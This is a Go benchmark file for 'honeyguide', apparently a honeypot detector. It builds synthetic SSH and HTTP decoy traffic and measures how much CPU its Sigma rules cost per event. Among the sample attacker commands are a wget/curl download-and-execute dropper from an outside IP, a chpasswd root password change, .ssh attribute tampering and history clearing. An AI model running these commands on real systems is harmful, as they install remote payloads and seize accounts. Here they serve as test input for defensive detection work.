package sigma

import (
	"fmt"
	"io/fs"
	"math/rand/v2"
	"net/netip"
	"os"
	"syscall"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/rulebook"
	"honeyguide/rules"
)

// traffic is what busy decoys see: mostly guessing, some intruders, web probes.
func traffic(n int) []honeyguide.Event {
	rnd := rand.New(rand.NewPCG(1, 2))
	lines := []string{
		"uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2 ,$3, $4}'", "crontab -l", "w", "ls -lh $(which ls)",
		"cd /tmp || cd /var/run; wget http://198.51.100.23/x.sh; curl -O http://198.51.100.23/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
		`echo "root:Giivkw9XLKre"|chpasswd|bash`, "cd ~; chattr -ia .ssh; lockr -ia .ssh", "/bin/busybox TRQBQ", "history -c",
	}
	out := make([]honeyguide.Event, n)
	for i := range out {
		src := rnd.IntN(2000)
		e := honeyguide.Event{
			ID: fmt.Sprint(i), Time: noon.Add(time.Duration(i) * time.Millisecond), Observed: noon, Sensor: "ssh", Service: "ssh", Session: fmt.Sprint("s", src),
			Src: honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(src >> 8), byte(src)}), 4711)},
		}
		switch p := rnd.IntN(100); {
		case p < 15:
			e.Activity = honeyguide.ActivityConnect
		case p < 60:
			e.Activity = honeyguide.ActivityLoginFailed
			e.Set(honeyguide.AttrUser, []string{"root", "admin", "ubuntu", "pi"}[rnd.IntN(4)])
			e.Set(honeyguide.AttrPassword, fmt.Sprint(rnd.IntN(5000)))
			e.Set(honeyguide.AttrAuthMethod, "password")
		case p < 62:
			e.Activity = honeyguide.ActivityLoginSuccess
			e.Set(honeyguide.AttrUser, "root")
		case p < 80:
			e.Activity = honeyguide.ActivityCommand
			e.Set(honeyguide.AttrCommand, lines[rnd.IntN(len(lines))])
		case p < 94:
			e.Activity, e.Sensor, e.Service = honeyguide.ActivityRequest, "http", "http"
			e.Set(honeyguide.AttrMethod, "GET")
			e.Set(honeyguide.AttrURL, []string{"/", "/.env", "/wp-login.php", "/index.html?id=1"}[rnd.IntN(4)])
			e.Set(honeyguide.AttrUserAgent, "Mozilla/5.0 (X11; Linux x86_64)")
		default:
			e.Activity = honeyguide.ActivityClose
		}
		out[i] = e
	}
	return out
}

// used returns the processor time of this process: on a busy machine it says
// more than the clock.
func used() time.Duration {
	var u syscall.Rusage
	_ = syscall.Getrusage(syscall.RUSAGE_SELF, &u)
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// BenchmarkDecoys measures what the detector costs an event of our decoys: with
// the shipped rules, and with the public ones when HONEYGUIDE_SIGMA_DIR names a
// checkout of them.
func BenchmarkDecoys(b *testing.B) {
	events := traffic(50_000)
	run := func(b *testing.B, opt rulebook.Options, only string) {
		book, err := rulebook.Open(b.Context(), opt)
		if err != nil {
			b.Fatal(err)
		}
		mine := events
		if only != "" {
			mine = nil
			for _, e := range events {
				if e.Activity == only {
					mine = append(mine, e)
				}
			}
		}
		d := detectorOf(b, book)
		b.ReportAllocs()
		alerts, i := 0, 0
		before := used()
		for b.Loop() {
			out, err := d.Detect(b.Context(), mine[i:i+1])
			if err != nil {
				b.Fatal(err)
			}
			alerts += len(out)
			if i++; i == len(mine) {
				i = 0
			}
		}
		b.ReportMetric(float64((used()-before).Nanoseconds())/float64(b.N), "cpu-ns/event")
		b.ReportMetric(float64(alerts)/float64(b.N), "alerts/event")
		b.ReportMetric(float64(book.Current().InForce), "rules")
	}
	shipped, err := fs.Sub(rules.Sigma, "sigma")
	if err != nil {
		b.Fatal(err)
	}
	b.Run("shipped", func(b *testing.B) { run(b, rulebook.Options{Shipped: shipped}, "") })
	for _, only := range []string{honeyguide.ActivityLoginFailed, honeyguide.ActivityCommand, honeyguide.ActivityRequest, honeyguide.ActivityConnect} {
		b.Run("shipped/"+only, func(b *testing.B) { run(b, rulebook.Options{Shipped: shipped}, only) })
	}
	if dir := os.Getenv("HONEYGUIDE_SIGMA_DIR"); dir != "" {
		b.Run("public", func(b *testing.B) { run(b, rulebook.Options{Shipped: shipped, Folder: dir + "/rules"}, "") })
	}
}
